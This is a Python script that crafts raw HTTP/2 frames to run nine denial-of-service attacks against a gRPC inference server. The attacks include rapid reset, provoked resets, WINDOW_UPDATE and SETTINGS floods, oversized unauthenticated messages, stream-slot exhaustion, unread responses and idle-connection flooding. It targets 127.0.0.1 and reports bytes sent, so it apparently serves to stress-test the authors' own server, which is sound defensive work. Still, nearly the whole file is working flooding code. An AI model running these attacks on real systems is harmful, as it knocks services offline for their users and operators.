"""What clients may send to a gRPC server to keep it from others: frames of HTTP/2, written by hand.

    python _grpc_attacks.py NAME GRPC_PORT SECONDS KEY BODY_FILE

Attacks for so many seconds, then says how much it sent. Most need no key.
"""

from __future__ import annotations

import json
import os
import selectors
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _WINDOW = 0, 1, 3, 4, 8
_INFERENCE = "/inference.GRPCInferenceService/"
_CHECK = "/grpc.health.v1.Health/Check"
_LARGEST = 16_384
_STREAMS = 100  # what the server allows for a connection


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """A frame."""
    return struct.pack(">BHBBI", len(content) >> 16, len(content) & 0xFFFF, kind, flags, stream) + content


def head(stream: int, path: str, key: str = "", *, last: bool = False) -> bytes:
    """The head of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "127.0.0.1"}
    fields |= {"te": "trailers", "content-type": "application/grpc"}
    fields |= {"authorization": f"Bearer {key}"} if key else {}
    block = b"".join(
        b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in fields.items()
    )
    return frame(_HEADERS, 0x5 if last else 0x4, stream, block)


def settings(window: int | None = None) -> bytes:
    """The client's settings."""
    return frame(_SETTINGS, 0, 0, b"" if window is None else struct.pack(">HI", 4, window))


class Attack:
    """Connections that send as much as the server takes, and read what it says.

    Args:
        port: The server's port.
        key: A key that may predict.
        message: A request whose answer is large.
    """

    def __init__(self, port: int, key: str, message: bytes) -> None:
        self._port = port
        self._key = key
        self._message = struct.pack(">BI", 0, len(message)) + message
        self.sent = self.connections = 0

    def flood(
        self, begin: Callable[[], bytes], more: Callable[[], Iterator[bytes]], connections: int
    ) -> None:
        """Begin connections, then send what `more` gives, again and again; never reads more than it must."""
        self._begin, self._more = begin, more
        self._selector = selectors.DefaultSelector()
        for _ in range(connections):
            self._open()

    def run(self, seconds: float) -> None:
        """Attack for so long."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for selected, events in self._selector.select(0.2):
                try:
                    self._served(selected, events)
                except OSError:
                    self._selector.unregister(selected.fileobj)
                    selected.fileobj.close()  # type: ignore[union-attr]
                    self._open()
        for selected in list(self._selector.get_map().values()):
            selected.fileobj.close()  # type: ignore[union-attr]

    def _open(self) -> None:
        connection = socket.create_connection(("127.0.0.1", self._port))
        connection.setblocking(False)
        state = {"out": _PREFACE + self._begin(), "more": self._more()}
        self._selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, state)
        self.connections += 1

    def _served(self, selected: selectors.SelectorKey, events: int) -> None:
        connection, state = selected.fileobj, selected.data
        assert isinstance(connection, socket.socket)
        if events & selectors.EVENT_READ and not connection.recv(1 << 16):
            raise ConnectionResetError
        if events & selectors.EVENT_WRITE:
            if not state["out"]:
                state["out"] = next(state["more"], b"")
            if not state["out"]:
                self._selector.modify(connection, selectors.EVENT_READ, state)
                return
            count = connection.send(state["out"])
            self.sent += count
            state["out"] = state["out"][count:]


def _numbers() -> Iterator[int]:
    return iter(range(1, 1 << 31, 2))


def windows(attack: Attack) -> None:
    """Calls whose answers wait for a window, and windows that grow by a byte each."""
    streams = range(1, 2 * _STREAMS, 2)
    calls = b"".join(head(n, f"{_INFERENCE}ServerLive", last=True) for n in streams)
    waiting = b"".join(head(n, f"{_INFERENCE}ModelInfer") for n in streams)
    update = b"".join(frame(_WINDOW, 0, 0, struct.pack(">I", 1)) for _ in range(1000))

    def more() -> Iterator[bytes]:
        while True:
            yield update

    attack.flood(lambda: settings(0) + calls + waiting, more, 4)


def many_settings(attack: Attack) -> None:
    """Frames of settings that change the windows of all calls 2,730 times each."""
    calls = b"".join(head(n, f"{_INFERENCE}ServerLive", last=True) for n in range(1, 2 * _STREAMS, 2))
    change = struct.pack(">HIHI", 4, 0, 4, 1) * 1365

    def more() -> Iterator[bytes]:
        while True:
            yield frame(_SETTINGS, 0, 0, change)

    attack.flood(lambda: settings(0) + calls, more, 4)


def resets(attack: Attack) -> None:
    """Calls that are taken back at once, 12,000 a second."""

    def more() -> Iterator[bytes]:
        began = time.monotonic()
        for count, n in enumerate(_numbers()):
            while count > 3_000 * (time.monotonic() - began):  # on each of four connections
                time.sleep(0.001)
            reset = frame(_RESET, 0, n, struct.pack(">I", 8))
            yield head(n, f"{_INFERENCE}ModelInfer") + reset

    attack.flood(settings, more, 4)


def provoked_resets(attack: Attack) -> None:
    """Calls that are no calls, so that the server takes them back itself."""

    def more() -> Iterator[bytes]:
        for n in _numbers():
            yield head(n, f"{_INFERENCE}ModelInfer") + frame(_WINDOW, 0, n, bytes(4))

    attack.flood(settings, more, 4)


def keyless_messages(attack: Attack) -> None:
    """Messages of 65 MB without a key, to methods that need one and to those that need none."""
    piece = frame(_DATA, 0, 1, bytes(_LARGEST))
    paths = [f"{_INFERENCE}ServerLive", f"{_INFERENCE}ModelInfer", _CHECK]
    turn = iter(range(1 << 30))

    def begin() -> bytes:
        path = paths[next(turn) % len(paths)]
        return settings() + head(1, path) + frame(_DATA, 0, 1, struct.pack(">BI", 0, 65_000_000))

    def more() -> Iterator[bytes]:
        for _ in range(65_000_000 // _LARGEST):
            yield piece

    attack.flood(begin, more, 16)


def slots(attack: Attack) -> None:
    """1,100 calls without a key that are begun and never end."""
    paths = [f"{_INFERENCE}ServerLive", f"{_INFERENCE}ModelInfer", _CHECK, "/unknown/Method"]
    calls = b"".join(head(n, paths[n // 2 % len(paths)]) for n in range(1, 2 * _STREAMS, 2))
    attack.flood(lambda: settings(0) + calls, lambda: iter(()), 11)


def unread(attack: Attack) -> None:
    """3.5 GB of answers to a client with a key that lets the server send none of them."""
    message, key = attack._message, attack._key
    calls = b"".join(
        head(n, f"{_INFERENCE}ModelInfer", key) + frame(_DATA, 1, n, message)
        for n in range(1, 2 * _STREAMS, 2)
    )
    attack.flood(lambda: settings(0) + calls, lambda: iter(()), 5)


def idle(attack: Attack) -> None:
    """1,100 connections that do nothing."""
    attack.flood(settings, lambda: iter(()), 1100)


def huge(attack: Attack) -> None:
    """Messages of 256 MB with a key."""
    key = attack._key
    piece = frame(_DATA, 0, 1, bytes(_LARGEST)) * 16

    def begin() -> bytes:
        prefix = struct.pack(">BI", 0, 256 << 20)
        return settings() + head(1, f"{_INFERENCE}ModelInfer", key) + frame(_DATA, 0, 1, prefix)

    def more() -> Iterator[bytes]:
        for _ in range((256 << 20) // _LARGEST // 16):
            yield piece

    attack.flood(begin, more, 8)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    "WINDOW_UPDATE x waiting calls": windows,
    "SETTINGS x waiting calls": many_settings,
    "rapid reset": resets,
    "provoked resets": provoked_resets,
    "65 MB without a key": keyless_messages,
    "all call slots": slots,
    "3.5 GB nobody reads": unread,
    "1,100 idle connections": idle,
    "256 MB messages": huge,
}


def main() -> None:
    """Attack, and print what was sent."""
    name, port, seconds, key, body = sys.argv[1:]
    os.nice(10)  # elsewhere it would have a machine of its own
    attack = Attack(int(port), key, Path(body).read_bytes())
    ATTACKS[name](attack)
    attack.run(float(seconds))
    print(json.dumps({"MB": attack.sent / 1e6, "connections": attack.connections}))


if __name__ == "__main__":
    main()
